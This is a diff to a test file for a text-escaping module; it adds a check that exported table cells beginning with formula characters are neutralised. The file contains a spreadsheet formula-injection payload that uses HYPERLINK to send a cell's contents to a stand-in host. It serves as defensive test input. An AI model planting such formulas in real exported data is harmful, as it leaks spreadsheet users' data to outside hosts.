@@ -51,6 +51,7 @@ def test_latex(text, escaped):
 def test_cells_are_not_formulas(start):
     assert escape.cell(f"{start}1") == f"'{start}1"
     assert escape.cell(f"a{start}") == f"a{start}"
+    assert escape.table([f"{start}1", "a"], [[f"{start}2", 1]]).replace('"', "") == f"'{start}1,a\n'{start}2,1\n"
 
 
 FORMULA = '=HYPERLINK("http://x.example?"&A1,"_$x^{")'
